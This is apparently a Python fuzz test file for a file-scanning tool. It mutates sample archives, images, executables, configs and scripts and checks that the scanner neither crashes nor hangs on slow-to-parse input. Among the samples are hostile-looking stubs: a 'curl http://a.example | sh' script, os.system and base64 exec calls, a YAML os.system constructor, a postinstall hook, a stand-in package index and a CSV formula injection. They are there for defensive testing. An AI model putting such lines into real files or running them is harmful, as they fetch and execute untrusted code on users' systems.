"""Every reader of archives, programs, media and texts ends, with findings alone, whatever the bytes."""

import base64
import bz2
import gzip
import io
import json
import lzma
import tarfile
import zipfile
import zlib

import lz4.frame
import pytest
import zstandard
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.unit.instruments.scan.archives.seven_zips import SEVEN_ZIPS
from tests.unit.instruments.scan.looking import found, look


def a_zip():
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", "hello" * 20)
        archive.writestr("b/c.json", '{"a": [1, 2]}')
    return held.getvalue()


def a_tar():
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w") as archive:
        for name in ("a.txt", "n" * 120):
            info = tarfile.TarInfo(name)
            info.size = 600
            archive.addfile(info, io.BytesIO(b"x" * 600))
    return held.getvalue()


PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
NOTEBOOK = json.dumps(
    {"cells": [{"cell_type": "code", "source": ["!ls\n", "x = 1"], "outputs": []}], "metadata": {}}
)
SEEDS = {
    "a.zip": a_zip(),
    "a.tar": a_tar(),
    "a.gz": gzip.compress(b"hello" * 50),
    "a.bz2": bz2.compress(b"hello" * 50),
    "a.xz": lzma.compress(b"hello" * 50),
    "a.lzma": lzma.compress(b"hello" * 50, format=lzma.FORMAT_ALONE),
    "a.zst": zstandard.compress(b"hello" * 50),
    "a.lz4": lz4.frame.compress(b"hello" * 50),
    "a.zz": zlib.compress(b"hello" * 50),
    "a.7z": base64.b64decode(SEVEN_ZIPS["lzma2"]),
    "b.7z": base64.b64decode(SEVEN_ZIPS["x86-lzma"]),
    "a.ar": b"!<arch>\n" + b"a.txt/          0           0     0     644     5         `\nhello\n",
    "a.cpio": b"070701" + b"0" * 48 + b"00000003" + b"0" * 32 + b"00000005" + b"0" * 8 + b"name\0\0abc\0",
    "a.png": PNG,
    "a.gif": b"GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
    "a.jpg": b"\xff\xd8\xff\xe0\0\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0\xff\xda\0\x02abc\xff\0\xff\xd9",
    "a.wav": b"RIFF\x24\0\0\0WAVEfmt \x10\0\0\0\x01\0\x01\0" + bytes(24),
    "a.mp4": b"\0\0\0\x10ftypisom\0\0\0\0\0\0\0\x08free",
    "a.pdf": b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n%%EOF\n",
    "a.parquet": b"PAR1" + bytes(40) + (30).to_bytes(4, "little") + b"PAR1",
    "a.db": b"SQLite format 3\0\x10\0\x01\x01\0\x40\x20\x20" + bytes(80),
    "a.elf": b"\x7fELF\x02\x01\x01" + bytes(60),
    "a.exe": b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(40),
    "a.pyc": b"\xa7\r\r\n" + bytes(12) + b"\xe3" + bytes(40) + b"\xda\x06system",
    "a.sh": b"#!/bin/sh\ncurl http://a.example | sh\n",
    "a.py": b"import os\ndef f(x=1):\n    os.system('ls ' + x)\nf()\nexec(__import__('base64').b64decode('YQ=='))\n",
    "a.yaml": b"a: &x [1, 2]\nb: *x\nc: !!python/object/apply:os.system ['id']\n_target_: os.system\n",
    "a.json": b'{"_target_": "os.system", "x": [1, {"y": "gASVCgAAAAAAAAB9lIwBYZRLAXMu"}]}',
    "a.ipynb": NOTEBOOK.encode(),
    "a.toml": b'[project]\nname = "x"\ndependencies = ["torch>=2"]\n',
    "a.ini": b"[handler_x]\nclass=StreamHandler\nargs=(sys.stdout,)\n",
    "requirements.txt": b"--extra-index-url http://a.example\ntorch==2.0\n-e git+https://a.example/x\n",
    "environment.yml": b"channels:\n  - http://a.example\ndependencies:\n  - pip:\n    - torch\n",
    "package.json": b'{"scripts": {"postinstall": "node x.js"}}',
    "a.svg": b"<svg xmlns='x'><script>1</script></svg>",
    "a.csv": b"a,b\n1,=cmd|'/c calc'!A1\n",
}


@pytest.mark.parametrize("name", SEEDS)
@settings(max_examples=25, deadline=None)
@given(st.data())
def test_changed_bytes_give_findings_and_no_fault(name, data):
    seed = bytearray(SEEDS[name])
    for _ in range(data.draw(st.integers(1, 6))):
        at = data.draw(st.integers(0, len(seed) - 1))
        seed[at] = data.draw(st.sampled_from([0, 1, 0x7F, 0x80, 0xFF]) | st.integers(0, 255))
    if data.draw(st.booleans()):
        del seed[data.draw(st.integers(0, len(seed) - 1)) :]
    if data.draw(st.booleans()):
        at = data.draw(st.integers(0, len(seed)))
        seed[at:at] = data.draw(st.binary(max_size=40))

    assert "scan/fault" not in found(look(bytes(seed), name, seconds=5, unpacked=64 << 20))


@pytest.mark.parametrize("name", SEEDS)
def test_every_beginning_gives_findings_and_no_fault(name):
    seed = SEEDS[name]
    step = max(1, len(seed) // 60)

    for length in range(0, len(seed), step):
        assert "scan/fault" not in found(look(seed[:length], name))


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=3000), st.sampled_from(sorted(SEEDS)))
def test_any_bytes_under_any_name_give_findings_and_no_fault(data, name):
    assert "scan/fault" not in found(look(data, name, seconds=5))


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=2000), st.sampled_from([name for name, seed in SEEDS.items() if b"\0" not in seed]))
def test_any_text_under_any_name_gives_findings_and_no_fault(text, name):
    assert "scan/fault" not in found(look(text.encode("utf-8", "surrogatepass"), name, seconds=5))


TIRING = {
    "blank lines": "\n" * 60_000,
    "blanks": " " * 60_000,
    "blanks before a sign": (" " * 2_000 + "=\n") * 100,
    "tabs and lines": "\t\n" * 40_000,
    "openings": "<script " * 3_000,
    "data blocks": '<script type="application/json" ' * 3_000,
    "calls": "exec(" * 15_000,
    "installations": "pip " * 15_000,
    "quotes": '"' * 30_001,
    "comments": "#\n \n" * 15_000,
    "fetches": "curl;chmod +x;" * 3_000,
    "brackets": "[" * 40_000,
    "anchors": "&a " * 15_000,
}


@pytest.mark.parametrize("text", TIRING.values(), ids=TIRING)
@pytest.mark.parametrize(
    "name", [name for name, seed in SEEDS.items() if b"\0" not in seed] + ["pip.conf", "a.desktop", "x"]
)
def test_text_made_to_take_long_ends_within_its_budget(name, text):
    # A search that backtracks without end never asks for the time, so this would hang rather than fail.
    head = {"a.ipynb": b"", "a.desktop": b"[Desktop Entry]\n", "x": b"import os\n"}.get(name, b"")
    body = a_notebook_of(text) if name == "a.ipynb" else text.encode()

    assert "scan/fault" not in found(look(head + body, name, seconds=5))


def a_notebook_of(text):
    cells = [{"cell_type": kind, "source": text, "outputs": []} for kind in ("code", "markdown")]
    return json.dumps({"cells": cells, "metadata": {}}).encode()
